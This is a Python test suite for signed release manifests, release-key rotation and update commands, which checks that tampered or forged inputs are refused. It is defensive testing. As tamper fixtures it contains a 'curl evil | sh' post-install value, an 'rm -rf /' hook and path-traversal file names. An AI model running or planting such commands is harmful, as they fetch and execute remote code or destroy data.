"""Signed release manifests, the release key and its rotation, tried as a thief with a box would."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from protocol.base45 import b45decode
from protocol.codec import encode
from protocol.commands import UpdateCommand, UpdateWindow, command_topic, decode_command
from protocol.errors import PayloadError
from protocol.membercode import PREFIX, IssuerKey, issue
from protocol.release import (
    MANIFEST_CONTEXT,
    MAX_MANIFEST_BYTES,
    ROTATION_CONTEXT,
    Release,
    ReleaseError,
    ReleaseKey,
    ReleaseRefusal,
    ReleaseWheel,
    canonical,
    check_installable,
    follow_rotations,
    load_private_key,
    private_key_pem,
    public_of,
    sign_release,
    sign_rotation,
    verify_release,
)

NOW = datetime(2025, 5, 1, 3, 0, tzinfo=UTC)
ROOT_WHEEL = "yizhan-0.2.0-py3-none-any.whl"


def _private(seed: int) -> Ed25519PrivateKey:
    return Ed25519PrivateKey.from_private_bytes(bytes([seed]) * 32)


OLD = _private(1)  # the release key boxes were installed with
NEW = _private(2)
NEWER = _private(3)
STRANGER = _private(9)  # a key the union never used: another union's, or a thief's
PINNED = public_of(OLD)


def _wheel(name: str, fill: str, size: int = 1000) -> dict[str, Any]:
    return {"name": name, "sha256": fill * 64, "size": size}


def _release_data(**changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "version": "0.2.0",
        "serial": 7,
        "python": "3.11",
        "machine": "aarch64",
        "created_at": NOW,
        "notes": "门禁更新",  # non-ASCII on purpose: the signed bytes are UTF-8
        "wheels": [
            _wheel(ROOT_WHEEL, "a"),
            _wheel("pydantic_core-2.27.2-cp311-cp311-manylinux_2_17_aarch64.whl", "b"),
        ],
    }
    return data | changes


RELEASE = Release.model_validate(_release_data())
MANIFEST = sign_release(RELEASE, OLD)


def _envelope() -> dict[str, Any]:
    envelope: dict[str, Any] = json.loads(MANIFEST)
    return envelope


def _reason(raw: bytes, key: ReleaseKey = PINNED) -> ReleaseRefusal:
    with pytest.raises(ReleaseError) as caught:
        verify_release(raw, key)
    return caught.value.reason


def _raw_signature(private: Ed25519PrivateKey, message: bytes) -> str:
    return base64.b64encode(private.sign(message)).decode()


# --- the honest path ---------------------------------------------------------------------


def test_a_signed_manifest_verifies_with_the_pinned_key() -> None:
    assert verify_release(MANIFEST, PINNED) == RELEASE
    assert _envelope()["key_id"] == PINNED.key_id
    assert RELEASE.root_wheel() == RELEASE.wheels[0]
    assert RELEASE.total_bytes == 2000


@pytest.mark.parametrize(
    "reencode",
    [
        pytest.param(lambda env: json.dumps(env, separators=(",", ":")), id="compact"),
        pytest.param(lambda env: json.dumps(env, indent=8), id="wide"),
        pytest.param(lambda env: json.dumps(env, sort_keys=True), id="sorted"),
        pytest.param(lambda env: json.dumps(env, ensure_ascii=True), id="ascii-escapes"),
        pytest.param(
            lambda env: json.dumps(
                {
                    "signature": env["signature"],
                    "key_id": env["key_id"],
                    "release": dict(reversed(env["release"].items())),
                }
            ),
            id="reversed-order",
        ),
    ],
)
def test_a_re_encoded_manifest_still_verifies(reencode: Callable[[dict[str, Any]], str]) -> None:
    raw = reencode(_envelope()).encode()
    assert raw != MANIFEST
    assert verify_release(raw, PINNED) == RELEASE


def test_the_size_limit_counts_bytes_and_is_inclusive() -> None:
    padding = MAX_MANIFEST_BYTES - len(MANIFEST)
    assert verify_release(MANIFEST + b" " * padding, PINNED) == RELEASE
    assert _reason(MANIFEST + b" " * (padding + 1)) is ReleaseRefusal.MALFORMED


# --- a manifest changed after signing ----------------------------------------------------


def _set_sha(env: dict[str, Any]) -> None:
    env["release"]["wheels"][1]["sha256"] = "c" * 64  # the thief's own build of a dependency


def _set_size(env: dict[str, Any]) -> None:
    env["release"]["wheels"][0]["size"] += 1


def _set_version(env: dict[str, Any]) -> None:
    env["release"]["version"] = "0.2.1"
    env["release"]["wheels"][0]["name"] = "yizhan-0.2.1-py3-none-any.whl"


def _set_serial(env: dict[str, Any]) -> None:
    env["release"]["serial"] = 10**6  # an old release dressed as the newest


def _serial_as_text(env: dict[str, Any]) -> None:
    env["release"]["serial"] = "7"  # the same number to a lax validator, not to the signature


def _add_wheel(env: dict[str, Any]) -> None:
    env["release"]["wheels"].append(_wheel("evil-1.0-py3-none-any.whl", "d"))


def _drop_wheel(env: dict[str, Any]) -> None:
    env["release"]["wheels"].pop()


def _add_field(env: dict[str, Any]) -> None:
    env["release"]["post_install"] = "curl evil | sh"


def _set_machine(env: dict[str, Any]) -> None:
    env["release"]["machine"] = "x86_64"


@pytest.mark.parametrize(
    "tamper",
    [
        _set_sha,
        _set_size,
        _set_version,
        _set_serial,
        _serial_as_text,
        _add_wheel,
        _drop_wheel,
        _add_field,
        _set_machine,
    ],
)
def test_a_changed_release_breaks_the_signature(tamper: Callable[[dict[str, Any]], None]) -> None:
    env = _envelope()
    tamper(env)
    assert _reason(json.dumps(env).encode()) is ReleaseRefusal.BAD_SIGNATURE


@pytest.mark.parametrize("byte", [0, 31, 32, 63])
def test_a_flipped_signature_byte_is_refused(byte: int) -> None:
    env = _envelope()
    signature = bytearray(base64.b64decode(env["signature"]))
    signature[byte] ^= 0x01
    env["signature"] = base64.b64encode(bytes(signature)).decode()
    assert _reason(json.dumps(env).encode()) is ReleaseRefusal.BAD_SIGNATURE


@pytest.mark.parametrize("signature", ["", "AAAA", "A" * 88, base64.b64encode(b"\0" * 64).decode()])
def test_a_signature_of_the_wrong_length_or_all_zero_is_refused(signature: str) -> None:
    env = _envelope() | {"signature": signature}
    assert _reason(json.dumps(env).encode()) is ReleaseRefusal.BAD_SIGNATURE


@pytest.mark.parametrize(
    "change",
    [
        pytest.param({"signature": None}, id="signature-null"),
        pytest.param({"signature": 12}, id="signature-number"),
        pytest.param({"signature": ["AAAA"]}, id="signature-list"),
        pytest.param({"signature": "not base64!"}, id="signature-not-base64"),
        pytest.param({"signature": "é" * 88}, id="signature-not-ascii"),
        pytest.param({"key_id": None}, id="key-id-null"),
        pytest.param({"key_id": 1}, id="key-id-number"),
        pytest.param({"key_id": [PINNED.key_id]}, id="key-id-list"),
        pytest.param({"release": []}, id="release-list"),
        pytest.param({"release": "{}"}, id="release-text"),
        pytest.param({"release": None}, id="release-null"),
    ],
)
def test_an_envelope_field_of_the_wrong_type_is_malformed(change: dict[str, Any]) -> None:
    env = _envelope() | change
    assert _reason(json.dumps(env).encode()) is ReleaseRefusal.MALFORMED


@pytest.mark.parametrize("field", ["release", "key_id", "signature"])
def test_an_envelope_without_a_field_is_malformed(field: str) -> None:
    env = _envelope()
    del env[field]
    assert _reason(json.dumps(env).encode()) is ReleaseRefusal.MALFORMED


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"\xff\xfe" + MANIFEST, id="not-utf8"),
        pytest.param(MANIFEST.replace("门".encode(), b"\xe9\x97"), id="cut-utf8"),
        pytest.param(MANIFEST[:-10], id="truncated"),
        pytest.param(b"[1, 2, 3]", id="json-list"),
        pytest.param(b'"release"', id="json-text"),
        pytest.param(b"null", id="json-null"),
        pytest.param(b"PK\x03\x04", id="zip"),
        pytest.param(b" " * (MAX_MANIFEST_BYTES + 1), id="too-large"),
    ],
)
def test_bytes_that_are_not_a_manifest_are_malformed(raw: bytes) -> None:
    assert _reason(raw) is ReleaseRefusal.MALFORMED


# --- anything a thief can send raises ReleaseError and nothing else -----------------------

JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=12,
)


def _only_release_errors(raw: bytes) -> Release | None:
    try:
        return verify_release(raw, PINNED)
    except ReleaseError:
        return None


@given(st.binary(max_size=2048))
def test_random_bytes_only_ever_raise_release_error(raw: bytes) -> None:
    assert _only_release_errors(raw) is None


@given(st.binary(max_size=64), st.integers(min_value=0, max_value=len(MANIFEST)))
def test_bytes_spliced_into_a_manifest_only_ever_raise_release_error(junk: bytes, at: int) -> None:
    raw = MANIFEST[:at] + junk + MANIFEST[at:]
    result = _only_release_errors(raw)
    # Only junk that is whitespace between tokens can leave the manifest valid.
    assert result is None or result == RELEASE


MUTATED_KEYS = (
    *("release", "key_id", "signature"),
    *("v", "version", "serial", "python", "machine", "created_at", "notes", "wheels"),
    *("name", "sha256", "size", "extra"),
)


def _containers(env: dict[str, Any]) -> list[dict[str, Any]]:
    release: dict[str, Any] = env["release"]
    return [env, release, *release["wheels"]]


@given(
    where=st.integers(min_value=0, max_value=3),
    key=st.sampled_from(MUTATED_KEYS),
    value=JSON_VALUES,
    delete=st.booleans(),
)
def test_json_mutations_only_ever_raise_release_error(
    where: int, key: str, value: Any, delete: bool
) -> None:
    env = _envelope()
    target = _containers(env)[where]
    if delete:
        target.pop(key, None)
    else:
        target[key] = value
    result = _only_release_errors(json.dumps(env).encode())
    # A mutation that leaves the signed content as it was (or deletes nothing) may pass;
    # any other passes only if the signature check is broken.
    assert result is None or result == RELEASE


# --- other keys, other signatures --------------------------------------------------------


def test_a_manifest_signed_by_a_fresh_key_names_an_unknown_key() -> None:
    assert _reason(sign_release(RELEASE, STRANGER)) is ReleaseRefusal.UNKNOWN_KEY


def test_a_manifest_signed_by_a_member_code_issuer_key_names_an_unknown_key() -> None:
    issuer = IssuerKey("u2025", _private(5))
    assert _reason(sign_release(RELEASE, issuer.private_key)) is ReleaseRefusal.UNKNOWN_KEY


def test_another_key_claiming_the_pinned_key_id_is_a_bad_signature() -> None:
    env = json.loads(sign_release(RELEASE, STRANGER)) | {"key_id": PINNED.key_id}
    assert _reason(json.dumps(env).encode()) is ReleaseRefusal.BAD_SIGNATURE


def test_a_member_code_signature_cannot_be_a_manifest_signature() -> None:
    # Worst case: the union reused the release key as a member-code issuer key. A member code
    # is then a fresh signature under the pinned key over bytes the thief partly chose.
    issuer = IssuerKey("u2025", OLD)
    code = issue("M20250001234", key=issuer, now=NOW)
    signature = b45decode(code.removeprefix(PREFIX))[-64:]
    assert issuer.public_key().public_bytes_raw() == PINNED.raw
    env = _envelope() | {"signature": base64.b64encode(signature).decode()}
    assert _reason(json.dumps(env).encode()) is ReleaseRefusal.BAD_SIGNATURE


def test_a_rotation_signature_cannot_be_a_manifest_signature() -> None:
    statement = json.loads(sign_rotation(OLD, public_of(NEW), issued_at=NOW))
    replay = {"release": statement["rotation"]} | {
        "key_id": statement["key_id"],
        "signature": statement["signature"],
    }
    # Refused by the signature, before the body is read as a release.
    assert _reason(json.dumps(replay).encode()) is ReleaseRefusal.BAD_SIGNATURE


@pytest.mark.parametrize(
    "context",
    [ROTATION_CONTEXT, b"", b"yizhan/member-code/v1\x00", MANIFEST_CONTEXT[:-1]],
)
def test_the_pinned_key_signing_the_same_release_under_another_context_is_refused(
    context: bytes,
) -> None:
    env = _envelope()
    env["signature"] = _raw_signature(OLD, context + canonical(env["release"]))
    assert _reason(json.dumps(env).encode()) is ReleaseRefusal.BAD_SIGNATURE
    # The same construction under the manifest's context is what sign_release makes.
    env["signature"] = _raw_signature(OLD, MANIFEST_CONTEXT + canonical(env["release"]))
    assert verify_release(json.dumps(env).encode(), PINNED) == RELEASE


def test_a_manifest_signature_cannot_be_a_rotation_statement() -> None:
    env = _envelope()
    replay = {"rotation": env["release"], "key_id": env["key_id"], "signature": env["signature"]}
    with pytest.raises(ReleaseError) as caught:
        follow_rotations(PINNED, [json.dumps(replay).encode()])
    assert caught.value.reason is ReleaseRefusal.BAD_SIGNATURE


# --- which releases a box installs -------------------------------------------------------


@pytest.mark.parametrize("newest", [7, 8, 2**53])
def test_a_serial_not_above_the_newest_accepted_is_a_downgrade(newest: int) -> None:
    with pytest.raises(ReleaseError) as caught:
        check_installable(RELEASE, newest_serial=newest, python="3.11", machine="aarch64")
    assert caught.value.reason is ReleaseRefusal.DOWNGRADE


@pytest.mark.parametrize(("python", "machine"), [("3.12", "aarch64"), ("3.11", "armv7l")])
def test_a_release_for_another_platform_is_refused(python: str, machine: str) -> None:
    with pytest.raises(ReleaseError) as caught:
        check_installable(RELEASE, newest_serial=6, python=python, machine=machine)
    assert caught.value.reason is ReleaseRefusal.WRONG_PLATFORM


@pytest.mark.parametrize("newest", [0, 6])
def test_a_newer_release_for_this_platform_is_installable(newest: int) -> None:
    check_installable(RELEASE, newest_serial=newest, python="3.11", machine="aarch64")


# --- what a release may contain ----------------------------------------------------------


@pytest.mark.parametrize(
    "wheels",
    [
        pytest.param([_wheel(ROOT_WHEEL, "a"), _wheel(ROOT_WHEEL, "b")], id="same-name"),
        pytest.param([_wheel(ROOT_WHEEL, "a"), _wheel("x-1-py3-none-any.whl", "a")], id="same-sha"),
        pytest.param([_wheel("yizhan-0.1.9-py3-none-any.whl", "a")], id="no-root-of-version"),
        pytest.param([_wheel("yizhan-0.2.0rc1-py3-none-any.whl", "a")], id="root-of-rc"),
        pytest.param([_wheel("Yizhan-0.2.0-py3-none-any.whl", "a")], id="root-capitalised"),
        pytest.param([_wheel("pydantic-2.0-py3-none-any.whl", "a")], id="no-root-at-all"),
        pytest.param([], id="no-wheels"),
    ],
)
def test_a_release_without_one_root_wheel_and_distinct_files_is_invalid(
    wheels: list[dict[str, Any]],
) -> None:
    with pytest.raises(ValidationError):
        Release.model_validate(_release_data(wheels=wheels))


@pytest.mark.parametrize(
    "name",
    [
        "../yizhan-0.2.0-py3-none-any.whl",
        "wheels/yizhan-0.2.0-py3-none-any.whl",
        "/opt/yizhan/yizhan-0.2.0-py3-none-any.whl",
        "..\\yizhan-0.2.0-py3-none-any.whl",
        "C:\\yizhan-0.2.0-py3-none-any.whl",
        "yizhan-0.2.0-py3-none-any.whl\n",
        "yizhan-0.2.0-py3-none-any.whl\x00.txt",
        "yizhan-0.2.0-py3-none-any.whl/..",
        "~/yizhan-0.2.0-py3-none-any.whl",
        "yizhan-0.2.0-py3-none-any.tar.gz",
        ".whl",
        "y" * 181 + ".whl",
    ],
)
def test_a_wheel_name_that_could_be_a_path_is_invalid(name: str) -> None:
    with pytest.raises(ValidationError):
        ReleaseWheel(name=name, sha256="a" * 64, size=1)


@pytest.mark.parametrize(
    "field",
    [
        {"sha256": "A" * 64},
        {"sha256": "a" * 63},
        {"size": 0},
        {"size": 512 * 1024 * 1024 + 1},
        {"surprise": True},
    ],
)
def test_a_wheel_entry_out_of_bounds_is_invalid(field: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        ReleaseWheel.model_validate(_wheel(ROOT_WHEEL, "a") | field)


@pytest.mark.parametrize(
    "change",
    [
        {"version": "0.2.0\n"},
        {"version": "latest"},
        {"serial": 0},
        {"serial": 2**53 + 1},
        {"python": "2.7"},
        {"machine": "riscv64"},
        {"v": 2},
        {"created_at": datetime(2019, 12, 31, tzinfo=UTC)},
        {"hook": "rm -rf /"},
    ],
)
def test_a_release_field_out_of_bounds_is_invalid(change: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        Release.model_validate(_release_data(**change))


def test_a_signed_but_invalid_release_is_malformed_not_trusted() -> None:
    # Only the key holder can make one; the box still refuses it with a reason.
    body = _release_data(machine="riscv64", created_at=NOW.isoformat())
    env = {
        "release": body,
        "key_id": PINNED.key_id,
        "signature": _raw_signature(OLD, MANIFEST_CONTEXT + canonical(body)),
    }
    assert _reason(json.dumps(env).encode()) is ReleaseRefusal.MALFORMED


# --- rotating the release key ------------------------------------------------------------


def _rotation(old: Ed25519PrivateKey, new: Ed25519PrivateKey) -> bytes:
    return sign_rotation(old, public_of(new), issued_at=NOW)


def test_a_two_step_chain_given_out_of_order_is_followed() -> None:
    reached = follow_rotations(PINNED, [_rotation(NEW, NEWER), _rotation(OLD, NEW)])
    assert reached == public_of(NEWER)
    assert follow_rotations(PINNED, []) == PINNED


def test_a_statement_from_an_unrelated_key_is_ignored() -> None:
    assert follow_rotations(PINNED, [_rotation(STRANGER, NEWER)]) == PINNED
    reached = follow_rotations(PINNED, [_rotation(STRANGER, NEWER), _rotation(OLD, NEW)])
    assert reached == public_of(NEW)


def test_a_statement_forged_under_the_pinned_key_id_is_refused() -> None:
    forged = json.loads(_rotation(STRANGER, STRANGER))
    forged["key_id"] = PINNED.key_id
    forged["rotation"]["old_key_id"] = PINNED.key_id
    with pytest.raises(ReleaseError) as caught:
        follow_rotations(PINNED, [_rotation(STRANGER, NEWER), json.dumps(forged).encode()])
    assert caught.value.reason is ReleaseRefusal.BAD_SIGNATURE


def test_a_genuine_statement_with_its_new_key_swapped_is_refused() -> None:
    statement = json.loads(_rotation(OLD, NEW))
    thief = public_of(STRANGER)
    statement["rotation"]["new_key_id"] = thief.key_id
    statement["rotation"]["new_public_key"] = base64.b64encode(thief.raw).decode()
    with pytest.raises(ReleaseError) as caught:
        follow_rotations(PINNED, [json.dumps(statement).encode()])
    assert caught.value.reason is ReleaseRefusal.BAD_SIGNATURE


def test_a_statement_whose_new_key_id_is_not_its_key_is_malformed() -> None:
    body = json.loads(_rotation(OLD, NEW))["rotation"]
    body["new_key_id"] = public_of(NEWER).key_id
    statement = {
        "rotation": body,
        "key_id": PINNED.key_id,
        "signature": _raw_signature(OLD, ROTATION_CONTEXT + canonical(body)),
    }
    with pytest.raises(ReleaseError) as caught:
        follow_rotations(PINNED, [json.dumps(statement).encode()])
    assert caught.value.reason is ReleaseRefusal.MALFORMED


def test_after_rotation_only_the_new_key_signs_releases() -> None:
    current = follow_rotations(PINNED, [_rotation(OLD, NEW)])
    assert _reason(MANIFEST, current) is ReleaseRefusal.UNKNOWN_KEY
    assert verify_release(sign_release(RELEASE, NEW), current) == RELEASE
    assert _reason(sign_release(RELEASE, NEW), PINNED) is ReleaseRefusal.UNKNOWN_KEY


@given(st.lists(st.binary(max_size=256), max_size=3))
def test_random_statements_only_ever_raise_release_error(statements: list[bytes]) -> None:
    try:
        reached = follow_rotations(PINNED, [*statements, _rotation(OLD, NEW)])
    except ReleaseError:
        return
    assert reached == public_of(NEW)


# --- the key files -----------------------------------------------------------------------


def test_a_pinned_key_file_round_trips() -> None:
    assert ReleaseKey.from_json(PINNED.to_json()) == PINNED


def test_a_pinned_key_file_whose_id_is_not_its_key_is_refused() -> None:
    data = json.loads(PINNED.to_json()) | {"key_id": public_of(STRANGER).key_id}
    with pytest.raises(ValueError, match="is not its key's"):
        ReleaseKey.from_json(json.dumps(data))
    # The thief's key under the pinned id: the id does not make it the pinned key.
    data = json.loads(public_of(STRANGER).to_json()) | {"key_id": PINNED.key_id}
    with pytest.raises(ValueError, match="is not its key's"):
        ReleaseKey.from_json(json.dumps(data))


@pytest.mark.parametrize(
    "text",
    ["", "[]", '"x"', '{"key_id": "rk-0"}', '{"public_key": "AAAA"}', '{"public_key": 5}'],
)
def test_a_file_that_is_no_key_is_refused_with_value_error(text: str) -> None:
    with pytest.raises(ValueError, match="not a release public key file"):
        ReleaseKey.from_json(text)


def test_the_signing_key_round_trips_through_pem(tmp_path: Path) -> None:
    path = tmp_path / "release.pem"
    path.write_bytes(private_key_pem(OLD))
    assert public_of(load_private_key(path)) == PINNED


def test_an_ec_signing_key_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "release.pem"
    path.write_bytes(
        ec.generate_private_key(ec.SECP256R1()).private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    with pytest.raises(ValueError, match="not an Ed25519 key"):
        load_private_key(path)
    with pytest.raises(ValueError, match="cannot read"):
        load_private_key(tmp_path / "missing.pem")
    path.write_bytes(b"-----BEGIN PRIVATE KEY-----\nnope\n-----END PRIVATE KEY-----\n")
    with pytest.raises(ValueError, match="not a PEM private key"):
        load_private_key(path)


# --- the update command ------------------------------------------------------------------


def _update(lifetime: timedelta, *, serial: int = 7, **fields: Any) -> UpdateCommand:
    return UpdateCommand(
        device="d-1",
        command_id="c" * 16,
        issued_at=NOW,
        expires_at=NOW + lifetime,
        issued_by="tech",
        release="0.2.0",
        serial=serial,
        **fields,
    )


def test_an_update_command_lives_at_most_a_week() -> None:
    _update(timedelta(days=7))
    with pytest.raises(ValidationError, match="at most 604800 s"):
        _update(timedelta(days=7, seconds=1))
    with pytest.raises(ValidationError, match="after issued_at"):
        _update(timedelta(0))


@pytest.mark.parametrize(
    "window",
    [
        {"start": "24:00", "end": "05:00"},
        {"start": "3:00", "end": "05:00"},
        {"start": "03:00", "end": "05:60"},
        {"start": "03:00\n", "end": "05:00"},
        {"start": "03:00", "end": "05:00", "tz": ""},
        {"start": "03:00", "end": "05:00", "tz": "x" * 65},
        {"start": "03:00"},
        {"start": "03:00", "end": "05:00", "days": "all"},
    ],
)
def test_an_update_window_out_of_bounds_is_refused(window: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        UpdateWindow.model_validate(window)


def test_an_update_window_may_cross_midnight() -> None:
    window = UpdateWindow(start="23:30", end="04:00")
    assert window.tz == "Asia/Shanghai"


@pytest.mark.parametrize("serial", [0, -1])
def test_an_update_command_needs_a_positive_serial(serial: int) -> None:
    with pytest.raises(ValidationError):
        _update(timedelta(hours=1), serial=serial)


@pytest.mark.parametrize("window", [None, UpdateWindow(start="02:00", end="05:00", tz="UTC")])
def test_an_update_command_round_trips_on_its_topic(window: UpdateWindow | None) -> None:
    command = _update(timedelta(days=2), window=window, rollout="r-2025-05")
    topic = command_topic("v-1", "d-1", "update")
    assert decode_command(topic, encode(command)) == command
    assert isinstance(decode_command(topic, encode(command)), UpdateCommand)


def test_an_update_command_on_another_topic_is_refused() -> None:
    command = _update(timedelta(days=2))
    with pytest.raises(PayloadError, match="device"):
        decode_command(command_topic("v-1", "d-2", "update"), encode(command))
    with pytest.raises(PayloadError):
        decode_command(command_topic("v-1", "d-1", "restart"), encode(command))


# --- found by these tests (fixed in protocol/release.py) ---------------------------------


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_deeply_nested_json_is_malformed_not_a_crash(depth: int) -> None:
    raw = b'{"release": ' + b"[" * depth + b"]" * depth + b', "key_id": "", "signature": ""}'
    assert len(raw) <= MAX_MANIFEST_BYTES
    assert _reason(raw) is ReleaseRefusal.MALFORMED


def test_a_deeply_nested_rotation_statement_is_skipped_not_a_crash() -> None:
    raw = b"[" * 5_000 + b"]" * 5_000
    assert follow_rotations(PINNED, [raw]) == PINNED


@pytest.mark.parametrize("where", ["notes", "key"])
def test_a_lone_surrogate_in_the_body_is_refused_as_release_error(where: str) -> None:
    env = _envelope()
    if where == "notes":
        env["release"]["notes"] = "\ud800"
    else:
        env["release"]["\udfff"] = 1
    raw = json.dumps(env).encode()  # ensure_ascii: the surrogate travels as \ud800
    assert b"\\ud" in raw or b"\\udfff" in raw
    with pytest.raises(ReleaseError):
        verify_release(raw, PINNED)


def test_a_lone_surrogate_in_a_rotation_statement_is_refused_as_release_error() -> None:
    statement = json.loads(_rotation(OLD, NEW))
    statement["rotation"]["issued_at"] = "\ud800"
    assert follow_rotations(PINNED, [json.dumps(statement).encode()]) == PINNED
